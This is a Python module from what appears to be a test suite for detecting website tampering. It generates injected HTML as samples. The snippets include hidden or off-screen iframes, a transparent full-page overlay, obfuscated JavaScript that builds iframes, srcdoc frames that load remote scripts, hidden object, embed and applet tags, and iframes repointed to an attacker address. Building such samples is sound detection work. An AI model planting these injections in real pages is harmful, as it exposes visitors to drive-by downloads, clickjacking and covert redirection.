"""Hidden frames, objects and embeds."""

# ruff: noqa: E501 — markup and scripts read best unbroken

from __future__ import annotations

from random import Random

from tests.tamper.corpus.attacks.kit import address, attack, body_place, garble, hide, insert, place, tagged
from tests.tamper.corpus.markup import Document, Edit, apply, set_attribute
from tests.tamper.corpus.site import Site, token


def _frame(rng: Random, source: str) -> str:
    return rng.choice([
        f'<iframe src="{source}" width="0" height="0" frameborder="0"></iframe>', f"<iframe src={source} width=1 height=1></iframe>",
        f'<iframe src="{source}" style="display:none"></iframe>', f'<iframe src="{source}" style="visibility:hidden"></iframe>',
        f'<iframe src="{source}" style="position:absolute;left:-9999px;top:-9999px"></iframe>', f'<iframe src="{source}" style="opacity:0;width:10px;height:10px"></iframe>',
        f'<iframe hidden src="{source}"></iframe>', f'<iframe src="{source}" style="width:100%;height:100%;position:fixed;top:0;left:0;opacity:0;z-index:9999"></iframe>',
        hide(rng, f'<iframe src="{source}"></iframe>'), f'<iframe width="100%" height="0" marginwidth="0" src="{source}" scrolling="no"></iframe>',
    ])  # fmt: skip


@attack("iframe_hidden", "hidden_iframe")
def iframe_hidden(site: Site, document: Document, rng: Random) -> str | None:
    source = address(
        rng,
        site,
        rng.choice(["", "in.cgi?5", f"{token(rng, 5)}.html", "count.php", f"?id={rng.randrange(999)}"]),
    )
    return insert(document, place(document, rng), _frame(rng, source))


@attack("iframe_scripted", "hidden_iframe")
def iframe_scripted(site: Site, document: Document, rng: Random) -> str | None:
    source = address(rng, site, "in.php")
    code = rng.choice([
        f"var i=document.createElement('iframe');i.src='{source}';i.style.display='none';document.body.appendChild(i);",
        f"document.write('<ifr'+'ame src=\"{source}\" width=0 height=0></ifr'+'ame>');",
        f"document.body.insertAdjacentHTML('beforeend','<iframe src=\"{source}\" style=\"position:absolute;left:-5000px\"></iframe>');",
    ])  # fmt: skip
    return insert(document, place(document, rng), tagged(garble(rng, code), rng))


@attack("iframe_srcdoc", "hidden_iframe")
def iframe_srcdoc(site: Site, document: Document, rng: Random) -> str | None:
    source = address(rng, site, "x.js")
    html = f'<iframe srcdoc="&lt;script src=&quot;{source}&quot;&gt;&lt;/script&gt;" style="display:none"></iframe>'
    return insert(document, body_place(document, rng), html)


@attack("object_embed", "hidden_iframe")
def object_embed(site: Site, document: Document, rng: Random) -> str | None:
    source = address(rng, site, rng.choice(["m.swf", "p.html", "load.pdf", "j.jar"]))
    html = rng.choice([
        f'<object data="{source}" width="1" height="1"></object>', f'<embed src="{source}" width="0" height="0" hidden="true">',
        f'<object type="text/html" data="{source}" style="display:none"></object>', f'<applet archive="{source}" code="a.class" width="1" height="1"></applet>',
    ])  # fmt: skip
    return insert(document, body_place(document, rng), html)


@attack("iframe_repointed", "hidden_iframe", needs=("video",))
def iframe_repointed(site: Site, document: Document, rng: Random) -> str | None:
    frames = [f for f in document.find("iframe") if f.attributes.get("src")]
    if not frames:
        return None
    frame = rng.choice(frames)
    tag = set_attribute(
        document.source[frame.start : frame.inner], "src", address(rng, site, "embed/" + token(rng, 8))
    )
    return apply(document.source, [Edit(frame.start, frame.inner, tag)])
